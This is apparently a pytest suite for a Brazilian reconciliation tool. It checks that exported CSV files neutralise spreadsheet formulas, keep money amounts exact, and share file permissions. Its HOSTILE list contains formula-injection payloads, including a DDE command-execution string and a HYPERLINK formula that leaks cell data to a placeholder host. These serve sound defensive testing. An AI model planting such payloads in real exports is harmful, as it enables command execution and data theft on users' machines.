"""Exports a spreadsheet opens: no cell runs as a formula, money stays an exact number,
every file is written whole and readable like the others (issue 27 §6, §8)."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pixops.money import INT64_MAX, INT64_MIN, parse_base
from pixops.recon import ReconResult, reconcile
from pixops.recon._spreadsheet import spreadsheet_money, spreadsheet_text
from tests.recon.builders import DAY, ledger_row, ledger_table, statement_row, statement_table

#: What an outside probe wrote into a ledger's references and entry ids.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    '=HYPERLINK("http://example.invalid/?leak="&A1;"click")',
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n@SUM(1)",
    "\uff1d1+1",
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell: trims leading blanks, then a formula sign."""
    first, trimmed = cell[:1], cell.lstrip()[:1]
    return trimmed in set("=+-@\uff1d\uff0b\uff0d\uff20") or first in set("\t\r\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    safe = spreadsheet_text(text)
    assert safe == "'" + text
    assert not runs_as_formula(safe)


@pytest.mark.parametrize("text", ["PIXIN000001", "pedido 12", "", "a=b", "R$ 5,00", "Settled"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert spreadsheet_text(text) == text


@given(st.text(max_size=20))
def test_no_text_runs_as_a_formula_and_nothing_is_lost(text: str) -> None:
    safe = spreadsheet_text(text)
    assert not runs_as_formula(safe)
    assert safe.removeprefix("'") == text or safe == text


@given(st.integers(min_value=INT64_MIN, max_value=INT64_MAX))
def test_money_is_an_exact_pt_br_number(amount_base: int) -> None:
    cell = spreadsheet_money(amount_base)
    assert "R$" not in cell
    assert parse_base(cell) == amount_base  # exact: a sub-centavo amount keeps its digits
    assert cell.startswith("-") == (amount_base < 0)  # a negative stays a number, no quote


@pytest.fixture(scope="module")
def hostile_result() -> ReconResult:
    """A ledger whose references and entry ids are formulas, none in the statement."""
    statement = statement_table([statement_row(0, amount_base=1_305)])
    ledger = [
        ledger_row(text, text, amount_base=5_000 + number) for number, text in enumerate(HOSTILE)
    ]
    return reconcile(statement, ledger_table(ledger), start=DAY, end=DAY)


def test_the_excel_file_runs_no_formula(hostile_result: ReconResult, tmp_path: Path) -> None:
    path = hostile_result.to_excel_csv(tmp_path / "discrepancies_excel.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    header, body = rows[0], rows[1:]
    entries = {row[header.index("Ledger entry")] for row in body} - {""}
    assert entries == {"'" + text for text in HOSTILE}
    money_columns = [i for i, name in enumerate(header) if name.endswith("(R$)")]
    for row in body:
        for index, cell in enumerate(row):
            if index in money_columns:
                assert cell == "" or parse_base(cell) is not None  # numbers, negatives too
            else:
                assert not runs_as_formula(cell), (header[index], cell)
    differences = {row[header.index("Difference (R$)")] for row in body}
    assert "-0,50" in differences  # a negative amount: a number, not text
    assert "-0,5001" in differences  # and exact
    statement = {row[header.index("Statement amount (R$)")] for row in body}
    assert "0,1305" in statement  # never rounded to 0,13


def test_the_csv_files_run_no_formula(hostile_result: ReconResult, tmp_path: Path) -> None:
    hostile_result.to_csv(tmp_path)
    with (tmp_path / "discrepancies.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["entry_id"] for row in rows if row["entry_id"]} == {"'" + text for text in HOSTILE}
    assert "-5000" in {row["difference_base"] for row in rows}  # integers stay numbers


def test_every_file_of_an_export_has_the_same_permissions(
    hostile_result: ReconResult, tmp_path: Path
) -> None:
    before = os.umask(0o022)
    try:
        written = hostile_result.write(tmp_path / "out")
        alone = hostile_result.to_excel_csv(tmp_path / "alone.csv")
    finally:
        os.umask(before)
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in [*written, alone]}
    assert "discrepancies_excel.csv" in modes
    assert set(modes.values()) == {0o644}, modes
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]
